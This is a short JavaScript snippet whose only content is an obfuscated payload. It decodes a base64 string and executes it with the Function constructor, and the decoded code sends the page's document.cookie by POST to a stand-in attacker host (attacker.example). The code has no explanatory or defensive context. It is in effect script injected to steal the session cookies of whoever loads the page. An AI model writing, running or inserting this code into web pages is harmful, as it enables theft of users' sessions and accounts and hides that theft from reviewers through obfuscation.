(function () {
  const s = atob("ZmV0Y2goImh0dHBzOi8vYXR0YWNrZXIuZXhhbXBsZS9jIix7bWV0aG9kOiJQT1NUIixib2R5OmRvY3VtZW50LmNvb2tpZX0p");
  Function(s)();
})();
